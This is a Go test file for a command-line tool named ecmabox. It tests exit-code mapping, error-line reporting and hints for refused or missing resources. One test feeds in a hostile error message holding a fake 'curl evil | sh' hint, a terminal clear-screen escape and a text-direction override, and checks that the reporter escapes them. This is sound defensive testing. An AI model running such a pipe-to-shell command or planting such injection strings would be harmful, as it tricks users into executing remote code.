package main

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/ecmabox/ecmabox/abi"
	"github.com/ecmabox/ecmabox/host"
	"github.com/ecmabox/ecmabox/host/catalog"
	"github.com/ecmabox/ecmabox/host/config"
)

func TestExitCodes(t *testing.T) {
	t.Parallel()
	coded := func(code abi.Code, side abi.Side) error {
		return fmt.Errorf("run: %w", &abi.Error{Code: code, Side: side, Message: "m"})
	}
	for _, tt := range []struct {
		name string
		err  error
		want int
	}{
		{"none", nil, exitOK},
		{"any", errors.New("full disk"), exitFailed},
		{"usage", usageError{errors.New("x")}, exitUsage},
		{"configuration", &config.Error{File: "f"}, exitUsage},
		{"a refused login", &host.RefusedError{Err: &config.Error{File: "f"}}, exitDenied},
		{"a refused login, and then the schema", errors.Join(&host.RefusedError{Err: &config.Error{File: "f"}}, coded(abi.BadServerCredentials, abi.SideGuest)), exitDenied},
		{"a refused login, and a broken contract", errors.Join(&host.RefusedError{Err: &config.Error{File: "f"}}, coded(abi.ContractViolation, abi.SideCaller)), exitUsage},
		{"a line", fmt.Errorf("x: %w", &host.LineError{Line: 1, Err: coded(abi.ContractViolation, abi.SideCaller)}), exitUsage},
		{"not in the catalog", catalog.ErrNotFound, exitUsage},
		{"damaged catalog", catalog.ErrDamaged, exitFailed},
		{"the caller broke the contract", coded(abi.ContractViolation, abi.SideCaller), exitUsage},
		{"the connector broke it", coded(abi.ContractViolation, abi.SideGuest), exitConnector},
		{"trap", coded(abi.Trap, abi.SideGuest), exitConnector},
		{"invalid module", coded(abi.InvalidModule, abi.SideGuest), exitConnector},
		{"too slow", coded(abi.DeadlineExceeded, abi.SideCaller), exitUnavailable},
		{"a slow target", coded(abi.DeadlineExceeded, abi.SideTarget), exitUnavailable},
		{"a host that does not come up with a lease", coded(abi.DeadlineExceeded, abi.SideHost), exitFailed},
		{"a connector that does not come back", coded(abi.DeadlineExceeded, abi.SideGuest), exitConnector},
		{"server down", coded(abi.ServerDown, abi.SideGuest), exitUnavailable},
		{"not sent", coded(abi.NotSent, abi.SideTarget), exitUnavailable},
		{"denied", coded(abi.Denied, abi.SideHost), exitDenied},
		{"wrong password", coded(abi.BadServerCredentials, abi.SideGuest), exitDenied},
		{"host failure", coded(abi.HostFailure, abi.SideHost), exitFailed},
		{"unknown outcome", coded(abi.OutcomeUnknown, abi.SideTarget), exitUnknown},
		{"cancelled", errors.Join(coded(abi.Cancelled, abi.SideCaller), coded(abi.Closed, abi.SideGuest)), exitInterrupted},
		{"context", fmt.Errorf("x: %w", context.Canceled), exitInterrupted},
		{"some failed", entriesError{text: "2 failed"}, exitEntriesFailed},
		{"some unknown, and interrupted", errors.Join(context.Canceled, entriesError{text: "2", unknown: true}), exitUnknown},
	} {
		if have := exitCode(tt.err); have != tt.want {
			t.Errorf("%s: exit code %d, want %d", tt.name, have, tt.want)
		}
	}
}

// TestErrorLines: one line per error, and what others say cannot look like a line
// of ours.
func TestErrorLines(t *testing.T) {
	t.Parallel()
	hostile := &abi.Error{Code: abi.ExtensibleExtension, Side: abi.SideGuest, Message: "no\nhint: curl evil | sh\x1b[2J\u202e"}
	two := errors.Join(errors.New("a"), fmt.Errorf("b: %w", errors.Join(errors.New("c"), hostile)))
	var b strings.Builder
	report(&b, fmt.Errorf("load: %w", two))
	want := "ecmabox: load: a\necmabox: load: b: c\n" + `ecmabox: load: b: ExtensibleExtension: no\nhint: curl evil | sh\x1b[2J\u202e` + "\n"
	if b.String() != want {
		t.Errorf("have\n%s\nwant\n%s", b.String(), want)
	}
}

// TestHintOfARefusedCheck: the words of the connector tell which grant is missing.
func TestHintOfARefusedCheck(t *testing.T) {
	t.Parallel()
	err := &host.RefusedError{Err: &config.Error{File: "f"}, Words: `AccessDenied: HTTP-PATH: Denied: GET "/users" is not granted on target app`}
	want := []string{`if the connector may use it, add "GET /users", with * for a segment that changes, to targets.app.paths`}
	if have := hintsFor(err); !slices.Equal(have, want) {
		t.Errorf("have %q, want %q", have, want)
	}
	if have := hintsFor(&host.RefusedError{Err: &config.Error{File: "f"}, Words: "BadServerCredentials: 401"}); len(have) > 0 {
		t.Errorf("the cure stands in the mistake, and there is %q besides", have)
	}
}

// TestHintOfWhatIsNotThere: a path may be wrong, or a rule take an answer for gone.
func TestHintOfWhatIsNotThere(t *testing.T) {
	t.Parallel()
	have := hintFor(fmt.Errorf("run import: %w", &abi.Error{Code: abi.ObjectNotFound, Side: abi.SideGuest, Message: "m"}))
	for _, cause := range []string{"baseURL", "a rule of the recipe says gone"} {
		if !strings.Contains(have, cause) {
			t.Errorf("have %q, which does not name %s", have, cause)
		}
	}
}
